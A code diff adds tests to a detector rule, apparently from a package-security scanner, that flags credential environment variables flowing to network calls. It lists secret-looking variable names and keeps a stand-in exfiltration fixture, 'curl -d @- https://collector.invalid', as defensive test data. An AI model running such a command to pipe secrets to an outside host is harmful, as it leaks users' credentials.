@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import type { CodeFact } from '../../analysis/types.js';
 import { at, call, flow, packageFacts } from '../rule-test-kit.js';
-import { credentialExfilChain as rule } from './credential-exfil-chain.js';
+import { isSecretEnvKey, credentialExfilChain as rule } from './credential-exfil-chain.js';
 
 const env = (key: string, line: number): CodeFact => ({ kind: 'env-read', key, at: at('index.js', line) });
 const post = call('https.request', 'network', at('index.js', 9), ['https://collector.invalid/']);
@@ -28,6 +28,32 @@ describe('credential-exfil-chain', () => {
       'curl -d @- https://collector.invalid',
     ]);
     expect(rule.run(packageFacts({ code: [from, curl, flow(from, curl)] }))).toHaveLength(1);
+  });
+
+  it.each([
+    ['NPM_TOKEN', true],
+    ['AWS_SECRET_ACCESS_KEY', true],
+    ['npm_config__authToken', true],
+    ['DB_PASSWORD', true],
+    ['STRIPE_API_KEY', true],
+    ['npm_config_proxy', false],
+    ['npm_config_sentrycli_cdnurl', false],
+    ['KEYMETRICS_NODE', false],
+    ['AWS_REGION', false],
+    ['GITHUB_REPOSITORY', false],
+  ])('treats process.env.%s as a secret: %s', (key, secret) => {
+    expect(isSecretEnvKey(key)).toBe(secret);
+  });
+
+  it('grades a token sent to its own service medium, and ignores sends to localhost', () => {
+    const token = env('GITHUB_TOKEN', 1);
+    const github = call('fetch', 'network', at('index.js', 5), ['https://api.github.com/repos/x/y/releases']);
+    expect(rule.run(packageFacts({ code: [token, github, flow(token, github)] }))[0]).toMatchObject({
+      confidence: 'medium',
+    });
+    const whole = env('*', 1);
+    const local = call('net.createConnection', 'network', at('index.js', 5), ['localhost']);
+    expect(rule.run(packageFacts({ code: [whole, local, flow(whole, local)] }))).toEqual([]);
   });
 
   it('is silent for a harmless variable flowing to the network (debug reads DEBUG)', () => {
